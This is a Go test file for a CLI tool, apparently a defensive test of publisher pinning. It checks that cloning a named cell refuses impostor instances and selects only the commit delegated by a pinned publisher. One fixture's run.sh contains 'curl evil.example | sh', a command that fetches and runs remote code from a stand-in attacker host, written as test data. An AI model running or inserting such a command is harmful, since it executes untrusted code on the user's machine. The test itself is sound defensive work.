package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cellnode/cellnode/manifest/project"
)

// TestCloneByNameImpostors is the attack: one instance delegated
// by the real publisher and two open impostors whose Cell.json copies the
// publisher list but whose run.sh is the attacker's. Clone and manifest
// show by name, pinned, take the delegated instance's commit and never
// the impostors'; with nothing pinned they refuse and list both commits.
func TestCloneByNameImpostors(t *testing.T) {
	isolate(t)
	keyFile := filepath.Join(t.TempDir(), "acme.key")
	code, out, stderr := run(t, "key", "new", "--out", keyFile)
	if code != 0 {
		t.Fatalf("key new: %s", stderr)
	}
	pub := strings.TrimSpace(out)
	cellJSON := `{"name":"acme/exchange","version":"1.0.0","publishers":["` + pub + `"]}`
	real := gitRepo(t, map[string]string{"Cell.json": cellJSON, "run.sh": "echo real exchange\n"})
	fake := gitRepo(t, map[string]string{"Cell.json": cellJSON, "run.sh": "curl evil.example | sh\n"})
	_, realCID, _ := run(t, "manifest", "cid", "--dir", real)
	_, fakeCID, _ := run(t, "manifest", "cid", "--dir", fake)
	realCID, fakeCID = strings.TrimSpace(realCID), strings.TrimSpace(fakeCID)

	homeReal := t.TempDir()
	_, id, _ := run(t, "id", "--home", homeReal)
	deleg := filepath.Join(t.TempDir(), "x.delegation")
	if code, _, stderr := run(t, "key", "delegate", "--key", keyFile, "--name", "acme/exchange", "--node", strings.TrimSpace(id), "--out", deleg); code != 0 {
		t.Fatalf("delegate: %s", stderr)
	}
	boot, bg := startNetwork(t)
	common := []string{"--listen", "/ip4/127.0.0.1/tcp/0", "--bootstrap", boot, "--dht-mode", "server", "--check-interval", "100ms"}
	ln, _ := listenService()
	defer ln.Close()
	bg(append([]string{"run", "--dir", real, "--endpoint", ln.Addr().String(), "--home", homeReal, "--delegation", deleg}, common...)...)
	for range 2 {
		// Impostors run the real Cell.json (so the name checks pass) with
		// no delegation: open records.
		bg(append([]string{"run", "--dir", fake, "--endpoint", ln.Addr().String(), "--home", t.TempDir()}, common...)...)
	}
	fresh := func(args ...string) (int, string, string) {
		t.Setenv("CELLNODE_RUNTIME_DIR", t.TempDir())
		return run(t, append(args, "--bootstrap", boot, "--home", t.TempDir())...)
	}
	waitUntil(t, func() bool {
		_, out, _ := fresh("find", "acme/exchange", "--json", "--timeout", "5s")
		return strings.Count(out, `"peer"`) == 3
	})

	// Nothing pinned: refused, both commits listed, nothing cloned.
	target := filepath.Join(t.TempDir(), "x")
	code, _, stderr = fresh("clone", "acme/exchange", target)
	if code != ExitUsage || !strings.Contains(stderr, realCID) || !strings.Contains(stderr, fakeCID) || !strings.Contains(stderr, "anyone can announce") {
		t.Fatalf("clone with nothing pinned: exit %d\n%s", code, stderr)
	}
	if _, err := os.Stat(target); err == nil {
		t.Fatal("clone with nothing pinned wrote", target)
	}

	// Pinned by --publisher, then by a Cell.lock.
	lockDir := t.TempDir()
	if err := project.WriteLock(lockDir, &project.Lock{Version: project.LockVersion, Cells: []project.LockedCell{
		{Name: "exchange", Cell: "acme/exchange", Git: "file://" + real, Publishers: []string{pub}}}}); err != nil {
		t.Fatal(err)
	}
	for i, pin := range [][]string{{"--publisher", pub}, {"--lock", filepath.Join(lockDir, "Cell.lock")}} {
		target := filepath.Join(t.TempDir(), "clone")
		code, out, stderr := fresh(append([]string{"clone", "acme/exchange", target}, pin...)...)
		if code != 0 || !strings.Contains(out, realCID) || !strings.Contains(stderr, "delegated by a pinned publisher") {
			t.Fatalf("pinned clone %d: exit %d\n%s%s", i, code, out, stderr)
		}
		if b, _ := os.ReadFile(filepath.Join(target, "run.sh")); string(b) != "echo real exchange\n" {
			t.Fatalf("pinned clone %d checked out run.sh %q", i, b)
		}
		code, out, stderr = fresh(append([]string{"manifest", "show", "acme/exchange"}, pin...)...)
		if code != 0 || !strings.Contains(out, realCID) || strings.Contains(out, fakeCID) {
			t.Fatalf("pinned show %d: exit %d\n%s%s", i, code, out, stderr)
		}
	}
	// A pin that no live instance satisfies finds nothing to clone.
	other := "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
	if code, _, stderr := fresh("clone", "acme/exchange", filepath.Join(t.TempDir(), "y"), "--publisher", other); code != ExitFailure || !strings.Contains(stderr, "untrusted") {
		t.Fatalf("clone pinned to another key: exit %d\n%s", code, stderr)
	}
}
